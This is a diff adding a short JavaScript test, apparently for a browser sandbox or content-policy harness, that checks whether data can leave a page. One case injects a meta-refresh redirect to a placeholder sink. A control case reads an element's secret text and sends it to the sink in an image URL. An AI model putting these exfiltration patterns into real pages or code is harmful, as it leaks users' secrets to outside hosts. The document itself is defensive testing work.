@@ -1,0 +1,10 @@
+//! guest = "app"
+//! promise = "app-network"
+//! policy = { resources = { inlineScripts = true } }
+(async () => { document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + SINK + "/x" })); })().catch(() => {});
+setTimeout(end, 250);
+// --- control
+const picture = new Image();
+picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
+await stage.until(() => picture.complete);
+return "sent";
